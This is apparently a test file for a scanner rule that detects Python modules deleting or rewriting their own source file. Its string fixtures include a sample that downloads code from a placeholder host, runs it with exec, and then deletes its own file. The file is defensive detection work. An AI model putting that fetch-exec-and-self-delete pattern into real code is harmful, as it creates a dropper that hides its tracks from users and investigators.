"""Modules that remove themselves."""

from lazaretto.detect.rules.python.self_rewriting import RULE


def test_after_executing(scan):
    text = r"""import os, requests
exec(requests.get("https://files.example.test/a").text)
os.remove(os.path.abspath(__file__))
"""
    assert scan(RULE, text) == [(3, "HIGH", "MEDIUM", "import")]


def test_rewriting_when_asked(scan):
    text = r"""import requests
def clean():
    open(__file__, "w").write("")
requests.get("https://files.example.test/a")
"""
    assert scan(RULE, text) == [(3, "MEDIUM", "LOW", "run")]


def test_near_miss_reading_itself(scan):
    text = r"""import subprocess
print(open(__file__).read()); subprocess.run(["true"])
"""
    assert scan(RULE, text) == []


def test_a_neighbour_is_rewritten(scan):
    text = """
import os
here = os.path.dirname(os.path.abspath(__file__))
def clean(text):
    exec(text)
    with open(os.path.join(here, "graph.py"), "w") as file:
        file.write("")
"""
    assert scan(RULE, text) == [(6, "MEDIUM", "MEDIUM", "run")]
    assert scan(RULE, text, "setup.py") == []
